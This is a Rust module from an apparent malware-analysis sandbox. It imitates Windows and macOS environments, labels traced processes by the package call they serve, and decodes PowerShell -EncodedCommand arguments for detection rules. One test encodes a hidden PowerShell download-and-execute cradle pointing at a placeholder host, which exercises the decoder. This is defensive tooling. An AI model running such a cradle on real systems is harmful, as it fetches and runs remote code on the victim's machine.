//! Persona passes and the exercise phase, engine side: the environment of a phase that
//! pretends to run on Windows or macOS (that system's command stand-ins on `PATH`, its
//! variables), the static pass's platform findings turned into plan data, each process
//! of the exercise phase labelled with the call it serves, PowerShell `-EncodedCommand`
//! decoded into the trace, and the harness's closing summary (coverage, virtual time,
//! canary arguments) read back into the header.
//!
//! Call labels: an exercise harness (Python or node) announces the call a process makes
//! with one hook line, `{"event":"exercise.call","args":{"call":"<module>.<name>",
//! "caller":"<harness file>:0"}}`, written by that process before it calls; every event
//! of that process and of the processes it starts gets `proc.lifecycle = "exercise:
//! <module>.<name>"`. The harness prints its summary as the last line of its output:
//! `exercise-summary {json}` (see [`HarnessSummary`]).

use std::collections::HashMap;

use airlock_ecosystem::{PlatformHints, TargetOs};
use airlock_events::{Canary, Event, EventKind, Source};
use base64::Engine as _;
use serde::Deserialize;

/// Where the Windows command stand-ins live in the image: the drive a WSL-style
/// interop mount shows, so nothing in the path names the analysis.
pub const WINDOWS_PATH: &[&str] = &[
    "/mnt/c/Windows/System32",
    "/mnt/c/Windows/System32/WindowsPowerShell/v1.0",
    "/mnt/c/Windows",
];
/// Where the macOS command stand-ins (`security`, `osascript`, `launchctl`) live.
pub const MACOS_PATH: &[&str] = &["/opt/homebrew/bin"];

/// The hook line event a harness writes before each call.
pub const CALL_MARKER: &str = "exercise.call";
/// The line prefix of the harness's closing summary.
pub const SUMMARY_PREFIX: &str = "exercise-summary ";

/// The phase environment `env` changed for `os`: its command stand-ins after the
/// system's own directories on `PATH`, and the variables that system's programs read.
pub fn persona_env(env: &mut Vec<(String, String)>, os: TargetOs, home: &str, hostname: &str) {
    let (dirs, vars): (&[&str], Vec<(&str, String)>) = match os {
        TargetOs::Linux => return,
        TargetOs::Windows => (
            WINDOWS_PATH,
            vec![
                ("OS", "Windows_NT".into()),
                ("COMPUTERNAME", hostname.to_ascii_uppercase()),
                ("USERDOMAIN", hostname.to_ascii_uppercase()),
                ("SystemRoot", "C:\\Windows".into()),
                ("windir", "C:\\Windows".into()),
                ("SystemDrive", "C:".into()),
                ("ProgramData", "C:\\ProgramData".into()),
                ("ProgramFiles", "C:\\Program Files".into()),
                ("PROCESSOR_ARCHITECTURE", "AMD64".into()),
                ("NUMBER_OF_PROCESSORS", "2".into()),
                (
                    "PATHEXT",
                    ".COM;.EXE;.BAT;.CMD;.VBS;.VBE;.JS;.JSE;.WSF;.WSH;.MSC;.PS1".into(),
                ),
                ("TEMP", format!("{home}/AppData/Local/Temp")),
                ("HOMEDRIVE", "C:".into()),
            ],
        ),
        TargetOs::Macos => (
            MACOS_PATH,
            vec![
                ("__CF_USER_TEXT_ENCODING", "0x1F5:0x0:0x0".into()),
                ("XPC_FLAGS", "0x0".into()),
                ("SHELL", "/bin/zsh".into()),
            ],
        ),
    };
    for (k, v) in vars {
        env.retain(|(name, _)| name != k);
        env.push((k.to_string(), v));
    }
    if let Some((_, path)) = env.iter_mut().find(|(k, _)| k == "PATH") {
        *path = format!("{path}:{}", dirs.join(":"));
    }
}

/// The static pass's `targets-windows` / `targets-macos` signals as plan data (one
/// reason per file, at most 20 each).
pub fn platform_hints(static_events: &[Event]) -> PlatformHints {
    let mut hints = PlatformHints::default();
    for e in static_events {
        if let EventKind::StaticSignal {
            signal,
            file,
            line,
            detail,
            ..
        } = &e.kind
        {
            let list = match signal.as_str() {
                airlock_static::ids::TARGETS_WINDOWS => &mut hints.windows,
                airlock_static::ids::TARGETS_MACOS => &mut hints.macos,
                _ => continue,
            };
            if list.len() < 20 {
                let at = line.map(|l| format!(":{l}")).unwrap_or_default();
                list.push(format!("{file}{at}: {detail}"));
            }
        }
    }
    hints
}

/// Sets `proc.lifecycle = "exercise: <call>"` on every event of a process that announced
/// a call (see the module docs) and of its descendants. Returns how many calls were seen.
pub fn label_calls(events: &mut [Event]) -> usize {
    let (ordered, ordered_calls) = label_ordered_calls(events);
    let mut own: HashMap<u32, String> = HashMap::new();
    let mut parent: HashMap<u32, u32> = HashMap::new();
    for e in events.iter() {
        match &e.kind {
            EventKind::Hook { event, args, .. } if event == CALL_MARKER => {
                if let (Some(pid), Some(call)) = (
                    e.pid().filter(|p| !ordered.contains(p)),
                    args.get("call").and_then(|c| c.as_str()),
                ) {
                    let call: String = call.chars().take(200).collect();
                    own.insert(pid, call);
                }
            }
            EventKind::ProcessStart { pid, ppid } => {
                parent.entry(*pid).or_insert(*ppid);
            }
            _ => {}
        }
    }
    if own.is_empty() {
        return ordered_calls;
    }
    let mut memo: HashMap<u32, Option<String>> = HashMap::new();
    let mut label_of = |pid: u32| -> Option<String> {
        if let Some(l) = memo.get(&pid) {
            return l.clone();
        }
        let mut cur = pid;
        let mut found = None;
        for _ in 0..64 {
            if let Some(l) = own.get(&cur) {
                found = Some(l.clone());
                break;
            }
            match parent.get(&cur) {
                Some(p) if *p != cur => cur = *p,
                _ => break,
            }
        }
        memo.insert(pid, found.clone());
        found
    };
    for e in events.iter_mut() {
        let Some(pid) = e.pid() else { continue };
        if let Some(l) = label_of(pid) {
            if let Some(p) = e.proc.as_mut() {
                p.lifecycle = Some(format!("exercise: {l}"));
            }
        }
    }
    own.len() + ordered_calls
}

/// Where a harness that makes many calls in one process (node has no fork:
/// exercise-npm.js) marks each call in the tracer's own order: a failed open of this
/// path followed by the call, percent-encoded. Its hook line alone could only be placed
/// by time, and calls follow each other within milliseconds.
pub const CALL_PATH: &str = "/run/airlock/call/";

/// Labels the events of processes that mark their calls with [`CALL_PATH`] opens, in
/// order: the tracer's events by the last marker before them in the process's own
/// sequence (processes it starts take the call current at their start), its hook lines
/// by the last `exercise.call` line before them. Returns those processes and how many
/// calls they marked; [`label_calls`] leaves them alone.
fn label_ordered_calls(events: &mut [Event]) -> (std::collections::HashSet<u32>, usize) {
    let hosts: std::collections::HashSet<u32> = events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::FileOpen { path, .. } if path.starts_with(CALL_PATH) => e.pid(),
            _ => None,
        })
        .collect();
    if hosts.is_empty() {
        return (hosts, 0);
    }
    let mut calls = 0;
    let mut traced: HashMap<u32, String> = HashMap::new();
    let mut hooked: HashMap<u32, String> = HashMap::new();
    for e in events.iter_mut() {
        let Some(pid) = e.pid() else { continue };
        match &e.kind {
            EventKind::FileOpen { path, .. } if hosts.contains(&pid) => {
                if let Some(rest) = path.strip_prefix(CALL_PATH) {
                    traced.insert(pid, percent_decode(rest).chars().take(200).collect());
                    calls += 1;
                }
            }
            EventKind::Hook { event, args, .. } if event == CALL_MARKER && hosts.contains(&pid) => {
                if let Some(c) = args.get("call").and_then(|c| c.as_str()) {
                    hooked.insert(pid, c.chars().take(200).collect());
                }
            }
            EventKind::ProcessStart { pid: child, .. } => {
                if let Some(l) = traced.get(&pid).cloned() {
                    traced.insert(*child, l);
                }
            }
            _ => {}
        }
        let label = if e.source == Source::Hook {
            hooked.get(&pid).or_else(|| traced.get(&pid))
        } else {
            traced.get(&pid)
        };
        if let (Some(l), Some(p)) = (label.cloned(), e.proc.as_mut()) {
            p.lifecycle = Some(format!("exercise: {l}"));
        }
    }
    (hosts, calls)
}

/// `%XX` sequences decoded (what `encodeURIComponent` wrote); anything else kept.
fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        let hex = |c: u8| (c as char).to_digit(16);
        if b[i] == b'%' && i + 2 < b.len() {
            if let (Some(h), Some(l)) = (hex(b[i + 1]), hex(b[i + 2])) {
                out.push((h * 16 + l) as u8);
                i += 3;
                continue;
            }
        }
        out.push(b[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// What a PowerShell command line runs when it passes `-EncodedCommand` (any
/// unambiguous prefix: `-enc`, `-e`, `-ec`; `/` works as `-` too): base64 of UTF-16LE.
pub fn decode_encoded_command(argv: &[String]) -> Option<String> {
    let prog = argv.first()?;
    let base = prog
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(prog)
        .to_ascii_lowercase();
    let base = base.strip_suffix(".exe").unwrap_or(&base);
    if base != "powershell" && base != "pwsh" {
        return None;
    }
    let mut it = argv.iter().skip(1);
    while let Some(a) = it.next() {
        let flag = a.trim_start_matches(['-', '/']).to_ascii_lowercase();
        let is_flag = a.starts_with(['-', '/'])
            && !flag.is_empty()
            && ("encodedcommand".starts_with(&flag) || flag == "ec");
        if is_flag {
            let payload = it.next()?;
            let bytes = base64::engine::general_purpose::STANDARD
                .decode(payload.trim().trim_matches('"'))
                .ok()?;
            let units: Vec<u16> = bytes
                .chunks_exact(2)
                .map(|c| u16::from_le_bytes([c[0], c[1]]))
                .collect();
            return Some(String::from_utf16_lossy(&units));
        }
    }
    None
}

/// For every PowerShell exec with an encoded command, a `hook` event right after it
/// (`runtime: "powershell"`, `event: "powershell.decoded"`, `args.command`) by the same
/// process, so rules read what the command line hides.
pub fn decode_powershell(events: &mut Vec<Event>) {
    let mut out = Vec::with_capacity(events.len());
    for e in events.drain(..) {
        let decoded = match &e.kind {
            EventKind::ProcessExec { argv, .. } => decode_encoded_command(argv),
            _ => None,
        };
        let extra = decoded.map(|command| {
            let mut d = Event::new(
                e.ts,
                &e.phase,
                Source::Sandbox,
                EventKind::Hook {
                    runtime: "powershell".into(),
                    event: "powershell.decoded".into(),
                    args: serde_json::json!({ "command": command }),
                },
            );
            d.proc = e.proc.clone();
            d
        });
        out.push(e);
        out.extend(extra);
    }
    *events = out;
}

/// The harness's closing summary line.
#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
pub struct HarnessSummary {
    /// Callables found, and calls made.
    #[serde(default)]
    pub found: u64,
    #[serde(default)]
    pub called: u64,
    /// Calls that raised, and calls cut at their deadline.
    #[serde(default)]
    pub raised: u64,
    #[serde(default)]
    pub timed_out: u64,
    /// Virtual seconds the fast-forwarded clock moved (timers, sleeps), summed over calls.
    #[serde(default)]
    pub virtual_secs: f64,
    /// The canary values handed to secret-looking parameters: kind → value.
    #[serde(default)]
    pub canaries: Vec<(String, String)>,
    /// Up to a few dozen `module.name` that were called.
    #[serde(default)]
    pub calls: Vec<String>,
    /// The made-up domains of the URLs, hosts and e-mail addresses the harness handed to
    /// the package (header note `exercise_hosts`: traffic there is the harness's).
    #[serde(default)]
    pub hosts: Vec<String>,
}

/// The summary in a phase's output tail, if the harness printed one.
pub fn harness_summary(output_tail: &str) -> Option<HarnessSummary> {
    output_tail
        .lines()
        .rev()
        .find_map(|l| l.trim().strip_prefix(SUMMARY_PREFIX))
        .and_then(|j| serde_json::from_str(j).ok())
}

/// The canaries of a summary, as trace-header canaries (ids `arg-<phase>-<kind>`).
pub fn argument_canaries(phase: &str, s: &HarnessSummary) -> Vec<Canary> {
    s.canaries
        .iter()
        .filter(|(_, v)| v.len() >= airlock_bait::MIN_CANARY_LEN)
        .map(|(kind, value)| Canary {
            id: format!("arg-{phase}-{kind}"),
            kind: kind.clone(),
            location: format!("argument:{phase}"),
            value: value.clone(),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use airlock_events::ProcRef;

    fn ev(kind: EventKind, pid: u32) -> Event {
        let mut e = Event::new(1.0, "exercise", Source::Strace, kind);
        e.proc = Some(ProcRef {
            pid,
            ppid: None,
            exe: "python3".into(),
            lifecycle: None,
            chain: Vec::new(),
        });
        e
    }

    #[test]
    fn calls_label_their_process_and_its_children() {
        let mut events = vec![
            ev(EventKind::ProcessStart { pid: 11, ppid: 10 }, 10),
            ev(
                EventKind::Hook {
                    runtime: "python".into(),
                    event: CALL_MARKER.into(),
                    args: serde_json::json!({"call": "wallet_utils.send_transaction"}),
                },
                11,
            ),
            ev(EventKind::ProcessStart { pid: 12, ppid: 11 }, 11),
            ev(
                EventKind::ProcessExec {
                    path: "/bin/sh".into(),
                    argv: vec!["sh".into()],
                    cwd: None,
                    env: Default::default(),
                    env_count: 0,
                    outcome: airlock_events::Outcome::Ok,
                },
                12,
            ),
            ev(
                EventKind::Note {
                    message: "x".into(),
                },
                10,
            ),
        ];
        assert_eq!(label_calls(&mut events), 1);
        let labels: Vec<_> = events
            .iter()
            .map(|e| e.proc.as_ref().and_then(|p| p.lifecycle.clone()))
            .collect();
        let call = Some("exercise: wallet_utils.send_transaction".to_string());
        assert_eq!(labels, [None, call.clone(), call.clone(), call, None]);
    }

    /// node's harness makes every call in one process: the tracer's events follow the
    /// open markers in order, hook lines follow the hook markers (before, every event of
    /// the process carried the last call's label).
    #[test]
    fn calls_in_one_process_are_labelled_in_order() {
        let open = |path: &str| EventKind::FileOpen {
            path: path.into(),
            flags: "O_RDONLY".into(),
            write: false,
            create: false,
            outcome: airlock_events::Outcome::Err("ENOENT".into()),
        };
        let connect = || EventKind::NetConnect {
            family: "AF_INET".into(),
            addr: "198.18.0.5".into(),
            port: 443,
            name: None,
            outcome: airlock_events::Outcome::Ok,
        };
        let hook = |event: &str, call: &str| EventKind::Hook {
            runtime: "node".into(),
            event: event.into(),
            args: serde_json::json!({ "call": call }),
        };
        let mut events = vec![
            ev(connect(), 20),
            ev(open("/run/airlock/call/w.signTransaction"), 20),
            ev(connect(), 20),
            ev(open("/run/airlock/call/w.Client%23ping"), 20),
            ev(EventKind::ProcessStart { pid: 21, ppid: 20 }, 20),
            ev(connect(), 21),
            ev(connect(), 20),
        ];
        let mut h1 = ev(hook(CALL_MARKER, "w.signTransaction"), 20);
        h1.source = Source::Hook;
        let mut h2 = ev(hook("https.request", ""), 20);
        h2.source = Source::Hook;
        let mut h3 = ev(hook(CALL_MARKER, "w.Client#ping"), 20);
        h3.source = Source::Hook;
        events.extend([h1, h2, h3]);
        assert_eq!(label_calls(&mut events), 2);
        let labels: Vec<Option<String>> = events
            .iter()
            .map(|e| e.proc.as_ref().and_then(|p| p.lifecycle.clone()))
            .collect();
        let sign = Some("exercise: w.signTransaction".to_string());
        let ping = Some("exercise: w.Client#ping".to_string());
        assert_eq!(
            labels,
            [
                None,
                sign.clone(),
                sign.clone(),
                ping.clone(),
                ping.clone(),
                ping.clone(),
                ping.clone(),
                sign.clone(),
                sign,
                ping
            ]
        );
    }

    #[test]
    fn encoded_powershell_is_decoded() {
        let cmd = "IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')";
        let utf16: Vec<u8> = cmd.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
        let b64 = base64::engine::general_purpose::STANDARD.encode(utf16);
        for flag in ["-EncodedCommand", "-enc", "-e", "/ec", "-ENC"] {
            let argv: Vec<String> = ["powershell.exe", "-NoP", "-W", "Hidden", flag, &b64]
                .iter()
                .map(|s| s.to_string())
                .collect();
            assert_eq!(
                decode_encoded_command(&argv).as_deref(),
                Some(cmd),
                "{flag}"
            );
        }
        let plain: Vec<String> = ["powershell", "-Command", "Get-Date"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        assert_eq!(decode_encoded_command(&plain), None);
        let mut events = vec![ev(
            EventKind::ProcessExec {
                path: "/mnt/c/Windows/System32/WindowsPowerShell/v1.0/powershell.exe".into(),
                argv: vec!["powershell.exe".into(), "-enc".into(), b64],
                cwd: None,
                env: Default::default(),
                env_count: 0,
                outcome: airlock_events::Outcome::Ok,
            },
            5,
        )];
        decode_powershell(&mut events);
        assert_eq!(events.len(), 2);
        assert!(matches!(&events[1].kind, EventKind::Hook { args, .. } if args["command"] == cmd));
        assert_eq!(events[1].pid(), Some(5));
    }

    #[test]
    fn persona_environment() {
        let mut env = vec![("PATH".to_string(), "/usr/bin:/bin".to_string())];
        persona_env(&mut env, TargetOs::Windows, "/home/runner", "build-01");
        let get = |k: &str| env.iter().find(|(n, _)| n == k).map(|(_, v)| v.clone());
        assert_eq!(get("OS").as_deref(), Some("Windows_NT"));
        assert!(get("PATH").unwrap().ends_with("/mnt/c/Windows"));
        assert!(!env
            .iter()
            .any(|(k, v)| k.contains("airlock") || v.contains("airlock")));
        let mut linux = vec![("PATH".to_string(), "/usr/bin".to_string())];
        persona_env(&mut linux, TargetOs::Linux, "/home/runner", "h");
        assert_eq!(linux.len(), 1);
    }

    #[test]
    fn summary_is_read_from_the_tail() {
        let tail = "noise\nexercise-summary {\"found\":3,\"called\":2,\"virtual_secs\":86400,\"canaries\":[[\"private_key\",\"0x1234567890abcdef1234567890abcdef\"]]}\n";
        let s = harness_summary(tail).unwrap();
        assert_eq!((s.found, s.called), (3, 2));
        let c = argument_canaries("exercise", &s);
        assert_eq!(c[0].id, "arg-exercise-private_key");
        assert!(harness_summary("nothing").is_none());
    }
}
